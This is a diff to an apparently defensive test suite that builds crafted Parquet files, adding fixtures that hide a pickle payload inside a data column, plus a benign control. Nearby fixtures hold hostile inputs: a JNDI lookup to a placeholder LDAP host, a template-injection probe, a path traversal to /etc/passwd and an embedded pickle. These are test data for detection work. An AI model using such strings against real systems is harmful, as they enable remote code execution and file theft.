@@ -69,6 +69,17 @@ def _parquet(
     return body + raw + struct.pack("<I", len(raw) if footer_size is None else footer_size) + magic
 
 
+def _values(*values: bytes) -> bytes:
+    """Return a table with one column of bytes: a page of plain values, not compressed."""
+    plain = b"".join(struct.pack("<I", len(v)) + v for v in values)
+    page = thrift({1: 0, 2: len(plain), 3: len(plain), 5: {1: len(values), 2: 0, 3: 3, 4: 3}}) + plain
+    chunk = {2: 4, 3: {1: 6, 2: [0], 3: [b"x"], 4: 0, 5: len(values), 6: len(page), 7: len(page), 9: 4}}
+    footer = thrift(
+        {1: 2, 2: [{4: b"schema"}, {4: b"x"}], 3: len(values), 4: [{1: [chunk], 2: len(page), 3: len(values)}], 6: b"stannary"}
+    )
+    return b"PAR1" + page + footer + struct.pack("<I", len(footer)) + b"PAR1"
+
+
 def _embedded(schema: Flat) -> bytes:
     return base64.b64encode(_message({0: ("h", 4), 1: ("B", 1), 2: schema}))
 
@@ -87,6 +98,8 @@ _PARQUET: dict[str, tuple[bytes, bool | None]] = {
     "metadata_pickle": (_parquet({"state": base64.b64encode(PICKLE)}), True),
     "metadata_template": (_parquet({"prompt": b"{{ ''.__class__ }}"}), True),
     "jndi": (_parquet({"author": b"${jndi:ldap://example.invalid/x}"}), True),
+    "pickle_in_column": (_values(b"x" * 40, PICKLE, b"y" * 40), True),
+    "bytes_in_column": (_values(b"x" * 40, b"\x80\x04", b"c" * 40), False),
     "reference": (_parquet({}, column={1: b"../../../etc/passwd", 2: 4}), True),
     "reference_plain": (_parquet({}, column={1: b"part-0.parquet", 2: 4}), False),
     "outside": (_parquet({}, column={2: 4, 3: {5: 3, 6: 32, 7: 1 << 40, 9: 4}}), True),
